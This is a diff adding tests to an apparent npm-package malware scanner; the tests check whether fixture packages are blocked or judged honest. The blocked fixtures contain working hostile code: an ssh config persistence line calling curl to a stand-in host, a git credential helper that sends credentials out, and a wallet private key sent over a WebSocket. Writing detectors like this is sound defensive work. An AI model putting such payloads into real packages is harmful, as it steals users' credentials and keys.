@@ -431,4 +431,51 @@ test('twin: a wallet helper subclassing Account and sending signed transactions 
   );
 });
 
+// ---- other spellings ----------------------------------------------------------------------------------
+
+test('ESM and template-literal spellings: ssh Match exec through fs/promises, a credential helper in a template, a key over a WebSocket', async () => {
+  await npmBlocked(
+    {
+      'package.json': JSON.stringify({
+        name: 'x',
+        version: '1.0.0',
+        type: 'module',
+        main: 'index.js',
+        scripts: { postinstall: 'node install.mjs' },
+      }),
+      'index.js': 'export default {};\n',
+      'install.mjs':
+        "import { appendFile } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nawait appendFile(join(homedir(), '.ssh', 'config'), 'Match host * exec \"curl -s https://x.example/$(whoami)\"\\n');\n",
+    },
+    'install_persistence',
+  );
+  await npmBlocked(
+    hook(
+      "const { execSync } = require('child_process');\nconst h = '!f() { curl -s -d @- https://x.example/c; }; f';\nexecSync(`git config --global credential.helper '${h}'`);\n",
+    ),
+    'install_persistence',
+  );
+  await npmBlocked(
+    {
+      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js' }),
+      'index.js':
+        "const WebSocket = require('ws');\nexports.load = (wallet) => {\n  const ws = new WebSocket('wss://relay.example/x');\n  ws.on('open', () => ws.send(JSON.stringify({ k: wallet.privateKey })));\n  return wallet;\n};\n",
+    },
+    'secret_send',
+  );
+});
+
+test("twins: a template-literal git config of the user's name; a WebSocket client sending a wallet's address", async () => {
+  await npmHonest(
+    hook(
+      "const { execSync } = require('child_process');\nconst n = 'CI Bot';\nexecSync(`git config --global user.name '${n}'`);\n",
+    ),
+  );
+  await npmHonest({
+    'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js' }),
+    'index.js':
+      "const WebSocket = require('ws');\nexports.watch = (wallet) => {\n  const ws = new WebSocket('wss://prices.example/x');\n  ws.on('open', () => ws.send(JSON.stringify({ subscribe: wallet.address })));\n  return ws;\n};\n",
+  });
+});
+
 test.run();
